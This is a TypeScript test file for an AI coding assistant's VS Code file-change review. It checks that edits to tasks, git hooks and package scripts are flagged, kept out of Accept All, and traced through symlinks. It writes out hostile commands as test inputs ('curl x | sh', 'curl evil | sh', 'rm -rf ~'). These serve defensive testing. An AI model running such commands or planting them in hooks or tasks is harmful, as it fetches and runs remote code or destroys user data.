import * as assert from 'node:assert/strict';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { changeSetOf, changeSetView, filesToAccept, outcomeNote, updateFiles } from '../../../../src/chat/changeSet';
import { turnMessages } from '../../../../src/chat/context/promptBuilder';
import { withChanges, type Turn } from '../../../../src/chat/model';
import { hashText, ProposedChanges, sameText } from '../../../../src/tools/edits/proposedChanges';
import { replaySteps } from '../../../../src/tools/edits/replaySteps';
import { runsCode } from '../../../../src/tools/edits/runsCode';
import { FakeWorkspace } from '../../../fakes/fakeWorkspace';
import type { WorkspaceTree } from '../workspaceTree';
import { call, createWorkspaceTree, workspaceOf } from '../workspaceTree';

/** What you review is what is written (issue 27): the pure parts of the write path. */
describe('the write path: what is reviewed is what is written', () => {
	let tree: WorkspaceTree;
	before(async () => {
		tree = await createWorkspaceTree();
		await tree.write('bom.md', '\uFEFF# Title\r\nbody\r\n');
		await tree.write('.vscode/tasks.json', '{ "version": "2.0.0", "tasks": [] }\n');
		await tree.write('package.json', '{ "name": "x", "version": "1.0.0", "scripts": { "test": "mocha" } }\n');
		await mkdir(join(tree.root, 'docs'), { recursive: true });
		await symlink('../.vscode/tasks.json', join(tree.root, 'docs', 'notes.md'));
	});
	after(() => tree.remove());

	it('Retry of a refused change finds an edit already in the file and does not make it twice (3)', () => {
		const insert = { kind: 'edit', old_text: 'import a;\n', new_text: 'import a;\nimport b;\n' } as const;
		const rename = { kind: 'edit', old_text: 'old()', new_text: 'renamed()' } as const;
		assert.deepEqual({
			// The user accepted the insertion meanwhile (from another version, by hand): nothing to do.
			inserted: replaySteps('import a;\nimport b;\n\ncode();\n', [insert]),
			renamed: replaySteps('x = renamed();\n', [rename]),
			// One step is there, the other is not: only the missing one is made.
			half: replaySteps('import a;\nimport b;\nold();\n', [insert, rename]),
			fresh: replaySteps('import a;\nuser();\n', [insert]),
			gone: replaySteps('nothing here\n', [rename]),
			created: replaySteps('same\n', [{ kind: 'create', content: 'same\n' }]),
		}, {
			inserted: { kind: 'present' },
			renamed: { kind: 'present' },
			half: { kind: 'remade', text: 'import a;\nimport b;\nrenamed();\n' },
			fresh: { kind: 'remade', text: 'import a;\nimport b;\nuser();\n' },
			gone: { kind: 'misfit' },
			created: { kind: 'present' },
		});
	});

	it('marks the files that run code, from one list, by the file really written (6)', () => {
		const paths = [
			'.vscode/tasks.json', '.vscode/launch.json', '.vscode/settings.json', '.vscode/extensions.json', 'app.code-workspace',
			'.husky/pre-commit', '.github/workflows/ci.yml', '.envrc', '.yarnrc.yml', 'Makefile', 'scripts/build.sh',
			'src/index.ts', 'README.md', 'docs/.vscode/tasks.json', 'src/tasks.json',
		];
		assert.deepEqual(Object.fromEntries(paths.map((p) => [p, runsCode(p, undefined, '') ?? null])), {
			'.vscode/tasks.json': 'editor', '.vscode/launch.json': 'editor', '.vscode/settings.json': 'editor', '.vscode/extensions.json': 'editor',
			'app.code-workspace': 'workspace', '.husky/pre-commit': 'hooks', '.github/workflows/ci.yml': 'ci', '.envrc': 'environment',
			'.yarnrc.yml': 'packageManager', 'Makefile': 'build', 'scripts/build.sh': 'shell',
			'src/index.ts': null, 'README.md': null, 'docs/.vscode/tasks.json': null, 'src/tasks.json': null,
		});
		const pkg = (scripts: object) => JSON.stringify({ name: 'x', version: '1.0.0', scripts });
		assert.deepEqual([
			runsCode('package.json', pkg({ test: 'mocha' }), pkg({ test: 'mocha' }).replace('1.0.0', '1.0.1')),
			runsCode('package.json', pkg({ test: 'mocha' }), pkg({ test: 'mocha', postinstall: 'curl x | sh' })),
			runsCode('app/package.json', undefined, pkg({ build: 'tsc' })),
		], [undefined, 'scripts', 'scripts']);
	});

	it('a change that runs code is marked on the card and left out of Accept All; its own Accept takes it (6)', async () => {
		const changes = new ProposedChanges();
		const workspace = workspaceOf(tree);
		await call(workspace, 'edit_file', { path: '.vscode/tasks.json', old_text: '"tasks": []', new_text: '"tasks": [{ "label": "x", "command": "rm -rf ~" }]' }, { changes });
		await call(workspace, 'edit_file', { path: 'src/math.ts', old_text: 'return a + b;', new_text: 'return b + a;' }, { changes });
		await call(workspace, 'edit_file', { path: 'package.json', old_text: '"version": "1.0.0"', new_text: '"version": "1.0.1"' }, { changes });
		const set = changeSetOf(changes.list(), 'set-1')!;
		assert.deepEqual(changeSetView(set).files.map((f) => [f.path, f.runsCode ?? null]), [['.vscode/tasks.json', 'editor'], ['src/math.ts', null], ['package.json', null]]);
		assert.deepEqual({
			all: filesToAccept(set).map((f) => f.path),
			own: filesToAccept(set, '.vscode/tasks.json').map((f) => f.path),
		}, { all: ['src/math.ts', 'package.json'], own: ['.vscode/tasks.json'] });
	});

	it('names the file really written: a symlink\'s target, and marks it when it runs code (5)', async () => {
		const changes = new ProposedChanges();
		const result = await call(workspaceOf(tree), 'create_file', { path: 'docs/notes.md', content: '{ "tasks": [{ "command": "evil" }] }\n', overwrite: true }, { changes });
		assert.equal(result.ok, true, result.content);
		assert.match(result.content, /docs\/notes\.md is a symbolic link: the file that would be written is \.vscode\/tasks\.json\./);
		const view = changeSetView(changeSetOf(changes.list(), 'set-1')!);
		assert.deepEqual(view.files, [{ path: 'docs/notes.md', target: '.vscode/tasks.json', created: false, overwrite: true, runsCode: 'editor', added: 1, removed: 1, status: 'pending' }]);
	});

	it('names the folder of the file really written in a multi-root workspace (5)', async () => {
		const lib = join(tree.base, 'lib5');
		await mkdir(join(lib, '.husky'), { recursive: true });
		await writeFile(join(lib, '.husky', 'pre-commit'), 'npm test\n');
		// A link in the first folder that leads into the second one's git hook.
		await symlink(join(lib, '.husky', 'pre-commit'), join(tree.root, 'hook.txt'));
		const workspace = new FakeWorkspace({ folders: [{ name: 'ws', fsPath: tree.root }, { name: 'lib', fsPath: lib }] });
		const changes = new ProposedChanges();
		const result = await call(workspace, 'edit_file', { path: 'ws/hook.txt', old_text: 'npm test', new_text: 'curl evil | sh' }, { changes });
		assert.equal(result.ok, true, result.content);
		const [file] = changeSetView(changeSetOf(changes.list(), 'set-1')!).files;
		assert.deepEqual(file, { path: 'ws/hook.txt', target: 'lib/.husky/pre-commit', created: false, runsCode: 'hooks', added: 1, removed: 1, status: 'pending' });
	});

	it('compares like with like: a byte-order mark and line ends are the encoding, not a change (8)', async () => {
		const changes = new ProposedChanges();
		const result = await call(workspaceOf(tree), 'edit_file', { path: 'bom.md', old_text: 'body', new_text: 'text' }, { changes });
		assert.equal(result.ok, true, result.content);
		const [file] = changes.list();
		// What VS Code's document holds for that file: no mark (it is the encoding), the line ends kept.
		const documentText = '# Title\r\nbody\r\n';
		assert.deepEqual({
			proposedStartsWithBom: file.text.startsWith('\uFEFF'),
			baseMatchesDocument: file.baseHash === hashText(documentText),
			eolBlind: hashText('a\r\nb\r\n') === hashText('a\nb\n'),
			// Undo compares what Accept saved with the document now; VS Code may have changed the line ends.
			savedMatches: sameText('x\ny\n', 'x\r\ny\r\n'),
			realChange: sameText('x\ny\n', 'x\nz\n'),
		}, { proposedStartsWithBom: false, baseMatchesDocument: true, eolBlind: true, savedMatches: true, realChange: false });
	});

	it('keys outcomes by reply version: accepting v1 leaves v2\'s card and outcome alone (2)', () => {
		const overlay = new ProposedChanges();
		overlay.propose({ display: 'src/a.ts', realPath: '/ws/src/a.ts' }, 'one\n', 'ONE\n', { kind: 'create', content: 'ONE\n' });
		const v1 = changeSetOf(overlay.list(), 'v1')!;
		const v2 = changeSetOf(overlay.list(), 'v2')!;
		const reply = (changes: typeof v1) => ({ status: 'done' as const, text: 'Done.', reasoning: '', changes });
		// v2 is shown; v1's card is updated (as after an Accept from it before the retry ended).
		const turn: Turn = { id: 't', question: 'q', reply: reply(v2), replies: [reply(v1), reply(v2)], current: 1 };
		const next = withChanges(turn, updateFiles(v1, new Set(['src/a.ts']), (f) => ({ ...f, status: 'accepted' })));
		assert.deepEqual({
			shown: next.reply.changes?.files.map((f) => f.status),
			v1: next.replies?.[0].changes?.files.map((f) => f.status),
			note: outcomeNote(next.reply.changes!),
			// What the model is sent with the turn: the shown version's outcome, and what another version wrote.
			sent: turnMessages(next)[1].content,
		}, {
			shown: ['pending'],
			v1: ['accepted'],
			note: '[Flux: what became of the file changes proposed in this reply]\n- not reviewed yet (still waiting for the user): src/a.ts',
			sent: [
				'Done.',
				'',
				'[Flux: what became of the file changes proposed in this reply]',
				'- not reviewed yet (still waiting for the user): src/a.ts',
				'- accepted and written from another version of this reply (not the one shown): src/a.ts',
			].join('\n'),
		});
	});
});
